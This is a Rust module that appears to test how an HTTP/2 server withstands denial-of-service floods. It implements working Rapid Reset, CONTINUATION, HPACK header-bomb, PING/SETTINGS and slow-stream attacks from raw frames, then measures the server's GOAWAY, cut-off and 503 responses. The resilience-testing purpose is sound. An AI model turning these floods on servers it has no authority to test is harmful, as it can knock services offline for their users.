//! HTTP/2 by hand, frame by frame: what a client sends that wants to tire a server, and how the server takes it.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use anyhow::{Context as _, Result};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// How long an answer may take.
const PATIENCE: Duration = Duration::from_secs(20);

/// Whoever takes no byte for so long takes no more until somebody reads.
const STUCK: Duration = Duration::from_secs(2);
/// A whole flood.
const WHOLE: Duration = Duration::from_secs(60);

/// A way to tire a server.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flood {
    /// Requests that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// Questions for a sign of life whose answers nobody reads.
    Pings,
    /// Settings whose acknowledgements nobody reads.
    Settings,
    /// A head that never ends (CVE-2024-27316).
    Continuation,
    /// One head that unpacks to far more than it is.
    HeaderBomb,
    /// Frames without anything in them.
    Empty,
}

impl Ending {
    /// Whether the server has had enough: it said good-bye, or took no more.
    pub const fn is_ended(&self) -> bool {
        self.is_cut_off || self.goodbyes > 0
    }
}

impl Flood {
    /// Every one.
    pub const ALL: [Self; 6] =
        [Self::RapidReset, Self::Pings, Self::Settings, Self::Continuation, Self::HeaderBomb, Self::Empty];
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("frames of a test are short").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// `GET /v1/time` in the static table's words, without compression.
fn small_head() -> Vec<u8> {
    let literal = |index: u8, value: &[u8]| [&[index, u8::try_from(value.len()).expect("short")][..], value].concat();
    // 2: GET; 6: http; 4 and 1 with values of their own: path, authority.
    [vec![0x82, 0x86], literal(0x04, b"/v1/time"), literal(0x01, b"x")].concat()
}

/// A head whose first field is put into the table and then named again very often.
fn bomb() -> Vec<u8> {
    let value = [b'a'; 120];
    let first = [&[0x40, 1, b'x', 120][..], &value].concat();
    [small_head(), first, vec![0xbe; 12_000]].concat()
}

/// What a flood has come to.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Ending {
    /// Whether the server ended the connection before the flood was over.
    pub is_cut_off: bool,
    /// Whether it took no more for [`STUCK`]: then nothing can gather in it.
    pub is_stuck: bool,
    /// Frames that say good-bye.
    pub goodbyes: usize,
    /// Heads of answers.
    pub answers: usize,
    /// Bytes that the server sent.
    pub answered_bytes: usize,
}

/// Sends `count` of a kind over one connection, or until the server takes no more; reads what comes only where `reads`.
pub async fn send(address: SocketAddr, flood: Flood, count: u32, reads: bool) -> Result<Ending> {
    let (mut reading, writing) = TcpStream::connect(address).await?.into_split();
    // Where what comes is read nobody is stuck, however late somebody is.
    let mut writer = tokio::spawn(write(writing, flood, count, if reads { WHOLE } else { STUCK }));
    let mut said = Vec::new();
    let mut is_closed = false;
    if reads {
        let wanted = usize::try_from(count)?;
        // A server that bears it all and does not answer each is left at last.
        let heard = tokio::time::timeout(WHOLE, listen(&mut reading, &mut said, wanted)).await;
        is_closed = heard.unwrap_or_default();
    }
    let of = |wanted| frames(&said).filter(|kind| *kind == wanted).count();
    let (goodbyes, answers) = (of(GOAWAY), of(HEADERS));
    let (is_cut_off, is_stuck) = if is_closed || goodbyes > 0 {
        writer.abort();
        (is_closed, false)
    } else {
        tokio::time::timeout(WHOLE, &mut writer).await.context("the flood has no end")??
    };
    Ok(Ending { is_cut_off, is_stuck, goodbyes, answers, answered_bytes: said.len() })
}

/// Whether it was cut off, and whether no byte was taken for so long.
async fn write(mut writing: OwnedWriteHalf, flood: Flood, count: u32, stuck: Duration) -> (bool, bool) {
    let mut bytes = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
    let mut n = 0;
    loop {
        match tokio::time::timeout(stuck, writing.write_all(&bytes)).await {
            Ok(Ok(())) => {}
            Ok(Err(_)) => return (true, false),
            Err(_) => return (false, true),
        }
        if n >= count {
            return (false, false);
        }
        bytes.clear();
        for _ in 0..100.min(count - n) {
            put(flood, n, &mut bytes);
            n += 1;
        }
    }
}

/// Takes what comes until there is a good-bye, or so many answers, or nothing can come any more; whether it is the last.
async fn listen(reading: &mut OwnedReadHalf, said: &mut Vec<u8>, wanted: usize) -> bool {
    let (mut looked_at, mut answers) = (0, 0);
    while answers < wanted {
        let Ok(1..) = reading.read_buf(said).await else { return true };
        while let Some((kind, rest)) = first_frame(&said[looked_at..]) {
            looked_at = said.len() - rest.len();
            answers += usize::from(kind == HEADERS);
            if kind == GOAWAY {
                return false;
            }
        }
    }
    false
}

fn put(flood: Flood, n: u32, bytes: &mut Vec<u8>) {
    let stream = 2 * n + 1;
    match flood {
        Flood::RapidReset => {
            bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &small_head()));
            bytes.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
        }
        Flood::Pings => bytes.extend(frame(PING, 0, 0, &[7; 8])),
        Flood::Settings => bytes.extend(frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])),
        Flood::Continuation if n == 0 => bytes.extend(frame(HEADERS, END_STREAM, 1, &small_head())),
        Flood::Continuation => {
            bytes.extend(frame(CONTINUATION, 0, 1, &[&[0, 1, b'x', 100][..], &[b'a'; 100]].concat()));
        }
        Flood::HeaderBomb => bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &bomb())),
        Flood::Empty if n == 0 => bytes.extend(frame(HEADERS, END_HEADERS, 1, &small_head())),
        Flood::Empty => bytes.extend(frame(0, 0, 1, &[])),
    }
}

/// The kinds of the whole frames in `bytes`.
fn frames(mut bytes: &[u8]) -> impl Iterator<Item = u8> {
    std::iter::from_fn(move || {
        let (kind, rest) = first_frame(bytes)?;
        bytes = rest;
        Some(kind)
    })
}

/// The kind of the first frame if it is whole, and what is behind it.
fn first_frame(bytes: &[u8]) -> Option<(u8, &[u8])> {
    let head = bytes.first_chunk::<9>()?;
    let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
    let end = 9 + usize::try_from(length).ok()?;
    Some((head[3], bytes.get(end..)?))
}

/// Requests that one connection has open at once.
pub const STREAMS: usize = 128;
/// Headers of each, beside the four that HTTP/2 needs.
const FIELDS: u8 = 97;

/// Many connections, each with [`STREAMS`] requests whose bodies never come. They end when this is dropped.
#[derive(Debug)]
pub struct Unfinished {
    refused: Arc<AtomicUsize>,
    _connections: JoinSet<()>,
}

impl Unfinished {
    /// Opens them from one address. Each head is some hundred bytes on the wire and many thousand in memory.
    pub async fn open(from: IpAddr, to: SocketAddr, connections: usize) -> Result<Self> {
        let refused = Arc::new(AtomicUsize::new(0));
        let mut all = JoinSet::new();
        for _ in 0..connections {
            let mut stream = connect(from, to).await?;
            let mut bytes = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
            for n in 0..STREAMS {
                let stream = u32::try_from(2 * n + 1)?;
                bytes.extend(frame(HEADERS, END_HEADERS, stream, &large_head(n == 0)));
            }
            let refused = refused.clone();
            all.spawn(async move {
                let (mut said, mut counted) = (Vec::new(), 0);
                if stream.write_all(&bytes).await.is_err() {
                    return;
                }
                while let Ok(1..) = stream.read_buf(&mut said).await {
                    let now = said.windows(CODE_503.len()).filter(|window| *window == CODE_503).count();
                    refused.fetch_add(now - counted, Ordering::AcqRel);
                    counted = now;
                }
            });
        }
        Ok(Self { refused, _connections: all })
    }

    /// How many were answered 503.
    pub fn refused(&self) -> usize {
        self.refused.load(Ordering::Acquire)
    }
}

const CODE_503: &[u8] = b"300503";

/// `POST` with as many headers as are allowed: said once, and from then on by their numbers in the table.
fn large_head(is_first: bool) -> Vec<u8> {
    const PATH: &[u8] = b"/rate/commission_rule/upgrade";
    // 3: POST; 6: http; 4 and 1 with values of their own: path, authority.
    let mut head = vec![0x83, 0x86, 0x04, u8::try_from(PATH.len()).expect("short")];
    head.extend_from_slice(PATH);
    head.extend_from_slice(&[0x01, 1, b'x']);
    for n in 0..FIELDS {
        if is_first {
            head.extend_from_slice(&[0x40, 2, b'a' + n / 26, b'a' + n % 26, 1, b'v']);
        } else {
            // From 62 on; what does not fit into seven bits goes on in a second byte.
            let number = 62 + n;
            head.extend(if number < 127 { vec![0x80 | number] } else { vec![0xff, number - 127] });
        }
    }
    head
}

/// Whether a question over HTTP/2 is answered with success.
pub async fn is_served(from: IpAddr, to: SocketAddr) -> Result<bool> {
    let mut stream = connect(from, to).await?;
    let question = frame(HEADERS, END_STREAM | END_HEADERS, 1, &small_head());
    stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[]), &question].concat()).await?;
    let mut said = Vec::new();
    let read = async {
        while stream.read_buf(&mut said).await? > 0 {
            if said.windows(6).any(|window| window == b"000000" || window == CODE_503) {
                break;
            }
        }
        anyhow::Ok(())
    };
    tokio::time::timeout(PATIENCE, read).await.context("no answer")??;
    Ok(said.windows(6).any(|window| window == b"000000"))
}

async fn connect(from: IpAddr, to: SocketAddr) -> Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::new(from, 0))?;
    Ok(socket.connect(to).await?)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_written_as_they_are_read() {
        let bytes = [frame(SETTINGS, 0, 0, &[]), frame(GOAWAY, 0, 0, &[0; 8]), vec![0, 0]].concat();
        assert_eq!(frames(&bytes).collect::<Vec<_>>(), [SETTINGS, GOAWAY]);
    }
}
